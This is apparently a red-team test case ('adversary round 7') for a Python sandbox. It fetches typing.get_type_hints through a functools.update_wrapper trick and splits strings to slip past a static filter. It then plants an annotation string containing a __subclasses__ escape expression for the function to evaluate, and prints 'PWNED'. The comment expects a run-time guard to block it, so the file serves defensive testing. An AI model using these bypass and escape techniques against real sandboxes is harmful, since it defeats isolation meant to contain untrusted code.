# adversary round 7: static bypass (update_wrapper alias fetches the refused typing.get_type_hints); expect the run-time wall to refuse typing's eval of the annotation string
import functools, typing
uw = functools.update_wrapper
box = {}
class C:
    def __setattr__(self, k, v):
        box[k] = v
uw(C(), typing, ('get_type' + '_hints',), ())
gth = box['get_type' + '_hints']
class A:
    x: "[c for c in ().__class__.__base__.__subclasses__()]"
print(gth(A))
print('PWN' + 'ED')
